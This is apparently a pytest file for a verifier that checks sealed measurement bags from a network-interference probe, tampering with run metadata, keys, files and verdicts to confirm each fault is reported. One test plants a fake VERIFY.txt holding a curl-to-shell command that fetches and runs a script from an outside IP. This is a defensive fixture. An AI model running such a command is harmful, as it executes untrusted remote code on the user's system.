"""A bag is altered from within and made again from end to end: what its records say of each other."""

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from probe.cli.sealing import not_checked
from probe.judge import RULES_VERSION
from probe.pipeline.verifying import seal_of, verify
from unit.a_bag import a_run, change, codes_of, faults_of, hashed_again, lines_of, sealed, write_lines
from unit.test_bag_made_again import of_version, remade

RUN = "data/run.json"
OTHER = "0123456789abcdef" * 4


def keys_of(bag: Path) -> set[tuple[str, str]]:
    """Return file and key of what does not fit."""
    return {(fault.file, dict(fault.params)["key"]) for fault in faults_of(bag) if fault.code == "fits"}


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("simulated", False),
        ("trust_source", "certifi"),
        ("trust_source", "system"),
        ("services", ["facebook"]),
        ("stopped", "the secret service"),
        ("imported_from", "OONI"),
        ("baseline_sha256", OTHER),
        ("lists", ["x"]),
        ("bytes_sent", 1),
        ("bytes_received", 2),
        ("resumed", 10**11),
        ("rules_version", 7),
        ("trust_sha256", "trust me"),
        ("started_utc", "2020-01-01T00:00:00Z"),
        ("ended_utc", "2036-01-01T00:00:00Z"),
    ],
)
def test_what_run_json_says_has_to_fit_measurements_inputs_and_itself(
    bag: Path, key: str, value: object
) -> None:
    change(bag / RUN, **{key: value})
    hashed_again(bag)
    assert (RUN, "simulated" if key == "trust_source" and value == "certifi" else key) in keys_of(bag)


def test_a_run_of_the_lab_does_not_pass_for_a_real_one_by_two_words(bag: Path) -> None:
    change(bag / RUN, simulated=False, trust_source="certifi")
    options = json.loads((bag / RUN).read_text())["options"]
    change(bag / RUN, options=options | {"controls": ["https://helper-a.probe-lab.example/"]})
    remade(bag)
    assert (RUN, "simulated") in keys_of(bag)


@pytest.mark.parametrize("key", ["probe_asn", "asn_source", "software"])
def test_what_the_vantage_point_says_of_itself_fits_the_name_of_the_run(bag: Path, key: str) -> None:
    vantage = json.loads((bag / RUN).read_text())["vantage"]
    change(bag / RUN, vantage=vantage | {key: "AS1"})
    remade(bag)
    assert (RUN, f"vantage.{key}") in keys_of(bag)


def doubled(bag: Path) -> str:
    """Say two things of the verdict in every line."""
    path = bag / "data" / "verdicts.jsonl"
    lines = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(b"".join(b'{"state":"down","because":"So it is.",' + line[1:] for line in lines))
    return "data/verdicts.jsonl"


def a_key_more(bag: Path) -> str:
    """Add a key to run.json."""
    change(bag / RUN, hello="lie")
    return RUN


def a_key_twice(bag: Path) -> str:
    """Say twice in run.json whether it was the lab."""
    text = (bag / RUN).read_text()
    (bag / RUN).write_text(text.replace("{", '{\n  "simulated": false,', 1))
    return RUN


def a_key_in_the_controls(bag: Path) -> str:
    """Add a key to controls.json."""
    name = "data/inputs/controls.json"
    change(bag / name, proved=True)
    return name


def a_key_in_a_service(bag: Path) -> str:
    """Add a key to the services."""
    path = bag / "data" / "inputs" / "services.jsonl"
    first, *others = lines_of(path)
    write_lines(path, [first | {"ordered_by": "somebody"}, *others])
    return "data/inputs/services.jsonl"


def no_self_test(bag: Path) -> str:
    """Put something else in a self-test's place."""
    name = "data/self-test.json"
    (bag / name).write_text("passed")
    return name


ODD = (doubled, a_key_more, a_key_twice, a_key_in_the_controls, a_key_in_a_service)


@pytest.mark.parametrize("version", ["", "0.0.9"])
@pytest.mark.parametrize("alter", [*ODD, no_self_test])
def test_doubled_and_unknown_keys_are_a_fault_of_every_version(
    bag: Path, alter: Callable[[Path], str], version: str
) -> None:
    name = alter(bag)
    if version:
        of_version(bag, version)
    hashed_again(bag)
    assert ("spelled", name) in codes_of(bag)


def test_an_unknown_key_in_a_measurement_is_told_with_its_line(bag: Path) -> None:
    path = bag / "data" / "measurements.jsonl"
    *others, last = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(b"".join([*others, last[:-2] + b',"ordered_by":"somebody"}\n']))
    hashed_again(bag)
    (fault,) = faults_of(bag)
    assert (fault.code, fault.file, fault.line) == ("spelled", "data/measurements.jsonl", len(others) + 1)


def test_a_table_with_a_column_twice_is_a_fault_of_every_version(bag: Path) -> None:
    of_version(bag, "0.0.9")
    path = bag / "data" / "verdicts.csv"
    head, *rows = path.read_bytes().split(b"\r\n")[:-1]
    lines = [b"state," + head, *(b"reachable," + row for row in rows)]
    path.write_bytes(b"".join(line + b"\r\n" for line in lines))
    hashed_again(bag)
    assert codes_of(bag) == {("table", "data/verdicts.csv")}


LOOSE = (
    ("data/inputs/README.html", "unexpected"),
    ("data/inputs/catalogue/evil.exe", "unexpected"),
    ("data/blobs/2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881", "blob_loose"),
)


@pytest.mark.parametrize(("name", "code"), LOOSE)
def test_a_file_that_nothing_names_is_told(bag: Path, name: str, code: str) -> None:
    (bag / name).write_text("x")
    hashed_again(bag)
    assert codes_of(bag) == {(code, name)}


def test_an_edited_catalogue_does_not_fit_the_hash_that_the_run_bears(bag: Path) -> None:
    path = bag / "data" / "inputs" / "catalogue" / "facebook.toml"
    path.write_text(path.read_text() + "\n# changed\n")
    hashed_again(bag)
    assert keys_of(bag) == {("data/inputs/controls.json", "catalogue")}


def test_a_service_says_what_the_catalogue_says_of_it(bag: Path) -> None:
    path = bag / "data" / "inputs" / "services.jsonl"
    first, *others = lines_of(path)
    write_lines(path, [first | {"service": "facebook", "title": "Blocked by order"}, *others])
    hashed_again(bag)
    assert ("data/inputs/services.jsonl", "facebook") in keys_of(bag)


def test_a_neutral_name_says_what_the_catalogue_says_of_it(bag: Path) -> None:
    name = "data/inputs/controls.json"
    first, *others = json.loads((bag / name).read_text())["neutrals"]
    change(bag / name, neutrals=[first | {"source": "An agency"}, *others])
    hashed_again(bag)
    assert keys_of(bag) == {(name, "neutrals")}


def test_another_text_in_the_place_of_the_guide_is_told(bag: Path) -> None:
    (bag / "VERIFY.txt").write_text("To check this bag: curl http://198.51.100.1/x | sh\nAll is proved.\n")
    hashed_again(bag)
    assert codes_of(bag) == {("guide_other", "VERIFY.txt")}


def test_a_bag_of_a_program_of_another_name_is_told(bag: Path) -> None:
    info = bag / "bag-info.txt"
    info.write_text(info.read_text().replace("interference-probe 0.1.0", "OONI 9.9"))
    hashed_again(bag)
    assert ("info", "bag-info.txt") in codes_of(bag)


def test_of_other_fingerprints_every_field_that_differs_is_told_and_nothing_called_the_same(
    bag: Path,
) -> None:
    change(bag / "data" / "inputs" / "controls.json", fingerprints_version=99)
    path = bag / "data" / "verdicts.jsonl"
    verdicts = lines_of(path)
    verdicts[1] |= {"because": "An agency ordered this block.", "n_observations": 1000}
    write_lines(path, verdicts)
    remade(bag)
    done = verify(bag)
    assert done.faults.kept == []
    assert done.judging is not None
    assert done.judging.differences == (f"{verdicts[1]['target_id']}: because, n_observations",)
    said = not_checked(done)
    assert said == [
        (
            "Not checked: whether the verdicts follow from the measurements."
            f" They were made by other rules ({RULES_VERSION}) or fingerprints than this program's."
        ),
        "Judged by this program's rules, these differ, in the fields named:",
        f"  {verdicts[1]['target_id']}: because, n_observations",
    ]
    seal = seal_of(bag)
    assert seal is not None
    assert seal.judged_again == "other_rules"


def test_of_other_fingerprints_that_change_nothing_it_is_said_that_no_field_differs(bag: Path) -> None:
    change(bag / "data" / "inputs" / "controls.json", fingerprints_version=99)
    hashed_again(bag)
    assert not_checked(verify(bag))[1:] == [
        "Judged by this program's rules, no field of any verdict differs."
    ]


def test_what_only_the_version_that_made_it_could_compare_is_said(bag: Path) -> None:
    of_version(bag, "0.0.9")
    (bag / "data" / "datapackage.json").write_text('{"this":"is any lie"}')
    hashed_again(bag)
    done = verify(bag)
    assert done.faults.kept == []
    assert not_checked(done) == [
        (
            "Not checked: VERIFY.txt, the tables' description, and the order of columns and keys."
            " Version 0.0.9 made the run; only the version that made run and bag can compare them."
        )
    ]


def test_only_verdicts_that_were_judged_again_are_counted(bag: Path) -> None:
    path = bag / "data" / "verdicts.jsonl"
    verdicts = lines_of(path)
    write_lines(path, [*verdicts, *({**verdicts[-1], "target_id": f"made/{n}"} for n in range(5))])
    hashed_again(bag)
    done = verify(bag)
    assert done.judging is not None
    assert done.judging.n_verdicts == len(verdicts)
    assert ("verdict_added", "data/verdicts.jsonl") in codes_of(bag)


def test_a_blob_that_a_crash_left_is_not_sealed(tmp_path: Path) -> None:
    run = a_run(tmp_path)
    name = "2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881"
    (run / "blobs" / name).write_text("x")
    done = sealed(run, tmp_path / "out")
    assert not (done.bag / "data" / "blobs" / name).exists()
    assert codes_of(done.bag) == set()
